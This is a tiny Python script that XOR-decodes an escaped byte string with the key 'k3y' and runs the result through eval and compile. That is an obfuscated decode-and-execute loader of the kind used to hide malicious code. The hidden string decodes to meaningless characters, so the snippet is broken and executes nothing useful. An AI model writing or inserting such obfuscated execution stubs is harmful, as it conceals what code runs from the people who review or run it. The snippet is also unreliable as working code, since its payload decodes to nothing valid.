_data = "\x1b\x0b\x1d\x0f\x1a\x5d\x45\x4c"
_key = "k3y"
_out = ""
for _i in range(len(_data)):
    _out += chr(ord(_data[_i]) ^ ord(_key[_i % len(_key)]))
eval(compile(_out, "<string>", "exec"))
